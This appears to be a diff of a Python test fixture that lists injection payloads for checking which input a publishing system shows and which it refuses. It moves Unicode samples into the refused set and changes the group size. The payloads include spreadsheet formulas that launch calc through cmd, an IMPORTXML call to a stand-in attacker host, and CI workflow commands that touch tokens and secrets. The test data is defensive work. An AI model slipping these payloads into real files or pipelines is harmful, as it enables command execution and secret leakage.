@@ -85,7 +85,6 @@ SHOWN: Mapping[str, str] = {
     "formula with plus": "+SUM(A1:A9)*cmd|'/C calc'!A0",
     "formula with minus": "-2+3+cmd|'/C calc'!A0",
     "formula with at": "@SUM(1+1)*cmd|'/C calc'!A0",
-    "formula in full width": "＝1+1",
     "import from the web": '=IMPORTXML("https://evil.example/","//a")',
     "commas and quotes": 'a,"b;c",\'d\'""',
     "command of a page's foot": '&P &N &F &A &D &"Arial,Bold" &K00FF00 && %',
@@ -113,15 +112,11 @@ SHOWN: Mapping[str, str] = {
     "workflow command of old": "##[error]pwned ##[add-mask]a ##vso[task.setvariable variable=a]b",
     "workflow expression": "${{ github.token }} ${{ secrets.X }}",
     # ---- letters
-    "other letters": "中文 العربية עברית 한국어 Ωμέγα Русский ё ﬁ ½ ™",
-    "beyond the first plane": "𝒳 😀 🏛 𠮷",
-    "digits of elsewhere": "٣ ３ ³ Ⅲ",
-    "looks alike": "раураl Ａ․ࠆ ⁄ ∕ ＜script＞",
     "one long word": "ยาว" * 60 + "W" * 80,
 }  # fmt: skip
 """What can be published, as the text it is."""
 
-UNSEEN: Mapping[str, str] = {
+REFUSED: Mapping[str, str] = {
     "null": "a\0b",
     "bell and backspace": "a\a\b\x7fb",
     "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\a",
@@ -152,15 +147,20 @@ UNSEEN: Mapping[str, str] = {
     "stacked marks": "ก" + "\u0e49" * 12,
     "stacked marks of elsewhere": "Z" + "\u0300\u0301\u0302\u0303" * 4,
     "taken apart": "นํ้า นํา e\u0301",
+    "formula in full width": "＝1+1",
+    "other letters": "中文 العربية עברית 한국어 Ωμέγα Русский ё ﬁ ½ ™",
+    "beyond the first plane": "𝒳 😀 🏛 𠮷",
+    "digits of elsewhere": "٣ ３ ³ Ⅲ",
+    "looks alike": "раураl Ａ․ࠆ ⁄ ∕ ＜script＞",
     "marker of a frame": "@lpa content@",
     "marker of a frame as an element": "<meta data-lpa-content>",
     "too long": "ก" * 4_001,
 }
 """What is refused in every field."""
 
-PAYLOADS: Mapping[str, str] = {**SHOWN, **UNSEEN}
+PAYLOADS: Mapping[str, str] = {**SHOWN, **REFUSED}
 
-SIZE = 22
+SIZE = 11
 GROUPS = -(-len(SHOWN) // SIZE)
 """How many countries it takes until every payload has stood in every field."""
 
